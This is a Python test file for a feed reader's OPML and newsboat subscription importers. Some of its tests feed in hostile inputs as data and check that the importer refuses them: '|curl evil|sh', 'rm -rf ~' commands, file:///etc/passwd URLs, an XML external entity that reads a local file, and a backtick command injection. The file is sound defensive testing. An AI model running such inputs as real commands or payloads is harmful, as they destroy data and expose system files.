import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsdesk.model.clean import Clean
from newsdesk.sources.newsboat import read_urls, write_urls
from newsdesk.sources.opml import DEEPEST, ListUnreadable, read_opml, write_opml
from newsdesk.sources.subscriptions import MOST_FEEDS, Subscription
from newsdesk.text.clean import clean_line
from tests.corpus import CORPUS

NAMES = st.text(st.characters(codec="utf-8"), min_size=1, max_size=20).map(clean_line).filter(bool)
TAGS = NAMES.map(lambda name: clean_line(name.replace(",", "").replace("/", ""))).filter(
    lambda name: bool(name) and not name.startswith(("~", "!")) and "&" not in name and "<" not in name
)
URLS = st.from_regex(r"https?://[a-z]{1,8}\.example/[a-z0-9?=&;%_.-]{0,20}", fullmatch=True).map(Clean)


def subscriptions(*, folders: bool) -> st.SearchStrategy[list[Subscription]]:
    feed = st.builds(
        Subscription,
        url=URLS,
        title=NAMES | st.just(Clean("")),
        site=(URLS if folders else st.just(Clean(""))),
        folder=st.lists(NAMES, max_size=3).map(tuple) if folders else st.just(()),
        tags=st.lists(TAGS, max_size=3, unique_by=str).map(tuple),
        hidden=st.just(value=False) if folders else st.booleans(),
    )
    return st.lists(feed, max_size=6, unique_by=lambda one: one.url)


@given(subscriptions(folders=True))
def test_a_list_that_was_written_reads_the_same(feeds: list[Subscription]) -> None:
    again = read_opml(write_opml(feeds, title="House & <Home>"))
    assert again.title == "House & <Home>"
    assert not again.malformed
    assert set(again.feeds) == set(feeds)


@given(subscriptions(folders=False))
def test_newsboats_list_reads_the_same_after_it_was_written(feeds: list[Subscription]) -> None:
    assert list(read_urls(write_urls(feeds)).feeds) == feeds


def test_nested_folders_are_kept() -> None:
    opml = b"""<opml version="1.0"><head><title>Mine</title></head><body>
    <outline text="News"><outline text="Harbour"><outline type="rss" text="Wire" xmlUrl="https://a.example/feed" htmlUrl="https://a.example/"/></outline></outline>
    <outline title="Alone" xmlURL="https://b.example/feed" category="/Science/Sea,tides"/></body></opml>"""
    wire, alone = read_opml(opml).feeds
    assert (wire.folder, wire.title, wire.site) == (("News", "Harbour"), "Wire", "https://a.example/")
    assert (alone.folder, alone.tags, alone.title) == (("Science", "Sea"), ("tides",), "Alone")


def test_a_list_that_is_no_xml_is_read_as_a_person_would() -> None:
    opml = b"""<opml><body><outline text="Q&A "quoted"">
    <outline text="Tom & <b>Jerry</b>" xmlUrl="https://a.example/?a=1&b=2" />
    <outline text="unclosed" xmlUrl='https://b.example/'>
    </outline></outline>"""
    read = read_opml(opml)
    assert read.malformed
    assert [feed.url for feed in read.feeds] == ["https://a.example/?a=1&b=2", "https://b.example/"]
    assert read.feeds[0].title == "Tom & Jerry"


def test_the_same_feed_in_two_folders_is_followed_once() -> None:
    opml = b"""<opml><body><outline text="A"><outline xmlUrl="https://a.example/"/></outline>
    <outline text="B"><outline text="Name" xmlUrl="https://a.example/"/></outline></body></opml>"""
    (feed,) = read_opml(opml).feeds
    assert (feed.folder, feed.tags, feed.title) == (("A",), ("B",), "Name")


# THREATS row 39
@pytest.mark.parametrize(
    "url",
    [
        "|curl evil|sh",
        "exec:rm -rf ~",
        "filter:~/x:http://a/",
        "file:///etc/passwd",
        "/etc/passwd",
        "javascript:x",
        "http://",
        "https://a b/",
        "x" * 3000,
    ],
)
def test_an_imported_list_runs_nothing_and_follows_only_the_web(url: str) -> None:
    opml = f'<opml><body><outline xmlUrl="{url}" filtercmd="rm -rf ~"/></body></opml>'.encode()
    read = read_opml(opml)
    assert read.feeds == ()
    assert len(read.refused) == 1
    assert read.refused[0].reason


# THREATS row 39
def test_a_list_cannot_read_files_or_fill_the_memory() -> None:
    opml = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><opml><body><outline text="&a;" xmlUrl="https://a.example/"/></body></opml>'
    assert [feed.url for feed in read_opml(opml).feeds] == ["https://a.example/"]
    many = b"<opml><body>" + b"".join(b'<outline xmlUrl="https://a.example/%d"/>' % n for n in range(MOST_FEEDS + 5))
    read = read_opml(many + b"</body></opml>")
    assert (len(read.feeds), len(read.refused)) == (MOST_FEEDS, 5)
    deep = read_opml(b"<opml><body>" + b"<outline text='f'>" * 500 + b"<outline xmlUrl='https://a.example/'/>")
    assert len(deep.feeds[0].folder) == DEEPEST


@pytest.mark.parametrize("data", [b"", b"hello", b"<rss/>", b"\xff\xfe\x00", b"{}"])
def test_what_is_no_list_is_told(data: bytes) -> None:
    with pytest.raises(ListUnreadable, match="subs"):
        read_opml(data, name="subs.opml")


@given(st.binary(max_size=200))
def test_no_bytes_break_the_readers_of_lists(data: bytes) -> None:
    read_urls(data)
    try:
        read_opml(b"<outline xmlUrl='https://a.example/' " + data)
    except ListUnreadable:
        return


def test_newsboats_lines_are_read_as_newsboat_reads_them() -> None:
    read = read_urls(
        b"# my feeds\n\n"
        b'https://a.example/feed news "two words" "~The \\"A\\" Wire" !\n'
        b"https://b.example/feed # a remark\n"
        b'"query:Unread of A:unread = \\"yes\\" and tags # \\"news\\"" tag\n'
        b"exec:~/bin/feed.sh\nfilter:~/bin/x:https://c.example/\n"
        b"https://d.example/`touch /tmp/x`\nquery:nameless\n"
    )
    first, second = read.feeds[:2]
    assert (first.title, first.tags, first.hidden) == ('The "A" Wire', ("news", "two words"), True)
    assert (second.url, second.tags) == ("https://b.example/feed", ())
    assert [(query.name, query.query) for query in read.queries] == [
        ("Unread of A", 'unread = "yes" and tags # "news"')
    ]
    assert [refused.text.partition(":")[0] for refused in read.refused] == ["exec", "filter", "query"]


@pytest.mark.corpus
@pytest.mark.skipif(not CORPUS.is_dir(), reason="the collection of real lists is not there")
def test_real_lists_give_their_feeds_and_nothing_raises() -> None:
    found = 0
    for path in sorted(path for path in (CORPUS / "opml").rglob("*") if path.is_file()):
        try:
            read = read_opml(path.read_bytes(), name=path.name)
        except ListUnreadable:
            continue
        found += len(read.feeds)
        assert set(read_opml(write_opml(read.feeds)).feeds) == set(read.feeds) or not read.feeds
    assert found >= 66
